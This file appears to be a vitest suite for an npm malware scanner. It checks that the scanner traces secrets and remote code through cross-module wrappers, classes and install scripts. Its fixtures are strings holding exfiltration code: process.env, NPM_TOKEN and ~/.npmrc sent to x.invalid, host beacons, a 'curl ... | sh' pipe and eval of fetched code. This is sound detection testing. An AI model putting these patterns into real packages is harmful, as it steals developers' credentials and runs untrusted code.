import { describe, expect, it } from 'vitest';
import { INSTALL, jsFindings, scanInline } from '../helpers.js';

describe('sink wrappers across modules (JS-010/JS-011/JS-012/JS-001 at the call)', () => {
  it('follows process.env into a module.exports arrow that sends its parameter', async () => {
    const f = await jsFindings({
      'send.js':
        "const https = require('https');\nmodule.exports = (d) => https.request({ host: 'x.invalid', method: 'POST' }).end(d);",
      'index.js': "require('./send')(JSON.stringify(process.env));",
    });
    const flow = f.find((x) => x.ruleId === 'JS-010');
    expect(flow?.file).toBe('index.js');
    expect(flow?.severity).toBe('critical');
    const steps = flow?.evidence?.flow as Array<{ step: string; file?: string; line?: number }>;
    expect(steps.map((s) => s.step)).toEqual(['source', 'call', 'sink']);
    expect(steps[0]?.file).toBe('index.js');
    expect(steps[2]?.file).toBe('send.js');
    expect(steps[2]?.line).toBe(2);
  });

  it('follows exports.x = function, module.exports = { x } and ESM export function', async () => {
    const cjs = await jsFindings({
      'lib/net.js': `const http = require('http');
        exports.post = function (body) { const req = http.request('http://x.invalid/c', { method: 'POST' }); req.write(body); req.end(); };`,
      'index.js':
        "const net = require('./lib/net'); const os = require('os');\nnet.post(os.hostname() + ':' + os.userInfo().username);",
    });
    expect(cjs.find((x) => x.ruleId === 'JS-011')?.file).toBe('index.js');

    const obj = await jsFindings({
      'util.js':
        "const { execSync } = require('child_process');\nfunction run(cmd) { return execSync(cmd); }\nmodule.exports = { run };",
      'index.js': "const { run } = require('./util.js');\nrun('curl -s http://198.51.100.9/p.sh | sh');",
    });
    const exec = obj.find((x) => x.ruleId === 'JS-001' && x.file === 'index.js');
    expect(exec?.severity).toBe('critical');
    expect(exec?.message).toContain('curl');

    const esm = await jsFindings(
      {
        'send.mjs': "export function leak(t) { fetch('https://x.invalid/c', { method: 'POST', body: t }); }",
        'index.mjs': "import { leak } from './send.mjs';\nleak(process.env.NPM_TOKEN);",
      },
      { name: 'fixture', version: '1.0.0', main: 'index.mjs' },
    );
    const leak = esm.find((x) => x.ruleId === 'JS-010');
    expect(leak?.file).toBe('index.mjs');
    expect(leak?.evidence?.via).toBe('leak() of send.mjs');
  });

  it('follows a remote response into an exported eval wrapper, and flows inside one file', async () => {
    const f = await jsFindings({
      'run.js': 'module.exports = function (code) { return eval(code); };',
      'index.js':
        "const run = require('./run');\nfetch('https://x.invalid/p').then((r) => r.text()).then((t) => run(t));",
    });
    expect(f.some((x) => x.ruleId === 'JS-012' && x.file === 'index.js')).toBe(true);

    const same = await jsFindings({
      'index.js': `const https = require('https');
        function beacon(data) { https.get('https://x.invalid/?d=' + encodeURIComponent(data)); }
        beacon(JSON.stringify(process.env));`,
    });
    const flow = same.find((x) => x.ruleId === 'JS-010');
    expect(flow?.line).toBe(3);
    expect(flow?.evidence?.via).toBe('beacon()');
  });

  it('rates an install script that hands the environment to a helper module malicious', async () => {
    const { verdict } = await scanInline(
      {
        'install.js':
          "const report = require('./lib/report');\nreport({ env: process.env, cwd: process.cwd() });",
        'lib/report.js':
          "const https = require('https');\nmodule.exports = function (payload) {\n  const req = https.request({ hostname: 'x.invalid', method: 'POST' });\n  req.end(JSON.stringify(payload));\n};",
      },
      INSTALL(),
    );
    expect(verdict.verdict).toBe('malicious');
  });

  it('ignores wrappers called with ordinary data, spawn options and harmless commands', async () => {
    const f = await jsFindings({
      'http.js':
        "const https = require('https');\nmodule.exports = (opts, body) => https.request(opts).end(body);",
      'run.js':
        "const { spawnSync } = require('child_process');\nexports.run = (cmd, args, opts) => spawnSync(cmd, args, opts);",
      'index.js': `const send = require('./http'); const { run } = require('./run');
        send({ host: 'api.example.com' }, JSON.stringify({ version: '1.0.0' }));
        run('node', ['build.js'], { env: process.env, stdio: 'inherit' });
        run('git', ['status']);`,
    });
    expect(f.filter((x) => ['JS-010', 'JS-011', 'JS-012'].includes(x.ruleId))).toHaveLength(0);
    expect(f.filter((x) => x.ruleId === 'JS-001' && x.file === 'index.js')).toHaveLength(0);
  });
});

describe('sink wrappers: process handles', () => {
  it('does not treat a child spawned with env: process.env as secrets on a command line', async () => {
    const f = await jsFindings({
      'index.js': `const { spawn, exec } = require('child_process');
        function kill(child) { exec('taskkill /pid ' + child.pid + ' /T /F'); }
        const child = spawn('node', ['app.js'], { env: process.env });
        kill(child);`,
    });
    expect(f.filter((x) => x.ruleId === 'JS-010')).toHaveLength(0);
  });
  it('flags a credential file read handed to a command-line wrapper', async () => {
    const f = await jsFindings({
      'index.js': `const fs = require('fs'); const os = require('os'); const { execSync } = require('child_process');
        function up(t) { execSync('curl -d ' + t + ' https://x.invalid'); }
        up(fs.readFileSync(os.homedir() + '/.npmrc', 'utf8'));`,
    });
    expect(f.find((x) => x.ruleId === 'JS-010')?.severity).toBe('high');
  });
  it('follows secrets into methods of local objects and classes that send their parameter', async () => {
    const send = "fetch('https://x.invalid/c', { method: 'POST', body: d })";
    const cases = [
      `const api = { send(d) { return ${send}; } };\napi.send(JSON.stringify(process.env));`,
      `class Client { send(d) { return ${send}; } }\nnew Client().send(JSON.stringify(process.env));`,
      `class Client { send(d) { return ${send}; } }\nconst c = new Client();\nc.send(JSON.stringify(process.env));`,
      `class Client { send(d) { return ${send}; } run() { this.send(JSON.stringify(process.env)); } }\nnew Client().run();`,
    ];
    for (const code of cases) {
      const f = (await jsFindings({ 'index.js': code })).filter((x) => x.ruleId === 'JS-010');
      expect(f.length, code).toBe(1);
      expect(f[0]!.severity).toBe('critical');
    }
  });
  it('does not follow methods that do not reach a sink, or objects it cannot see', async () => {
    const code = `const api = { log(d) { console.log(d); } };
      api.log(JSON.stringify(process.env));
      other.send(JSON.stringify(process.env));`;
    expect((await jsFindings({ 'index.js': code })).filter((x) => x.ruleId === 'JS-010')).toHaveLength(0);
  });
  it('paths (home folder, working directory) sent through a wrapper are medium; identifying host data is high', async () => {
    const wrapper =
      "const https = require('https');\nfunction post(d) { https.request({ host: 'x.invalid', method: 'POST' }).end(JSON.stringify(d)); }\n";
    const paths = `${wrapper}post({ home: require('os').homedir(), cwd: process.cwd() });`;
    const ids = `${wrapper}post({ host: require('os').hostname(), user: require('os').userInfo().username });`;
    const beacon = async (code: string) =>
      (await jsFindings({ 'index.js': code })).find((x) => x.ruleId === 'JS-011')?.severity;
    expect(await beacon(paths)).toBe('medium');
    expect(await beacon(ids)).toBe('high');
  });
});
